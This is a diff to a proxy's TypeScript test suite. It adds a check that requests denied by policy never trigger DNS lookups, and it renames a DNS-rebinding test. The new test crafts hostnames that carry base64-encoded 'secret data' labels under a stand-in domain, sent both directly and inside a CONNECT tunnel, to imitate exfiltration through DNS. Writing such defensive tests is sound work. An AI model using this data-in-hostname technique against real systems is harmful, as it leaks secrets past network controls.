@@ -70,7 +70,7 @@ t.test('a hostname resolving to loopback is refused; through the proxy the targe
   t.equal(bad.connections, 0, 'half.example: the unopened address was never dialed');
 });
 
-t.test('DNS rebinding: a resolver that alternates answers never gets the proxy to dial the private one', async (t) => {
+t.test('DNS rebinding never reaches the private answer; names of denied requests are never resolved (no DNS exfiltration)', async (t) => {
   // The good answer is the upstream the operator opened (127.0.0.1:P); the bad one is another
   // loopback address on the same port that was not opened (127.0.0.2:P), with its own recorder.
   const a = open;
@@ -96,6 +96,16 @@ t.test('DNS rebinding: a resolver that alternates answers never gets the proxy t
   const both = await viaProxy(a.port, `http://both.example:${good.port}/`, { auth: a.auth });
   t.equal(both.status, 403, 'a name with one private answer among several is refused');
   t.equal(bad.connections, 0, 'the rebinding target was never dialed');
+  // DNS as an exfiltration channel: a denied request must not resolve its name (the query itself
+  // would carry the data to the attacker's name server).
+  const looked: string[] = [];
+  const counting = guard.lookup;
+  guard.lookup = async (host) => { looked.push(host); return counting(host); };
+  const denied = await viaProxy(a.port, `http://c2VjcmV0LWRhdGE.rebind.example:${good.port}/deny/exfil`, { auth: a.auth });
+  t.equal(denied.status, 403, 'the policy denies the request');
+  const denied2 = await rawToProxy(a.port, `CONNECT c2VjcmV0LWRhdGE2.rebind.example:${good.port} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: ${a.auth}\r\n\r\nGET /deny/exfil HTTP/1.1\r\nHost: c2VjcmV0LWRhdGE2.rebind.example:${good.port}\r\n\r\n`, { responses: 1 });
+  t.match(denied2.text.replace(/^HTTP\/1\.1 200[^\r]*\r\n\r\n/, ''), /^HTTP\/1\.1 403/, 'a denied request inside a CONNECT tunnel');
+  t.same(looked, [], 'names of denied requests (and of CONNECT targets) are never resolved');
   t.equal(good.received.length - goodBefore, statuses.filter((s) => s === 200).length, 'the good upstream got exactly the allowed requests');
 });
 
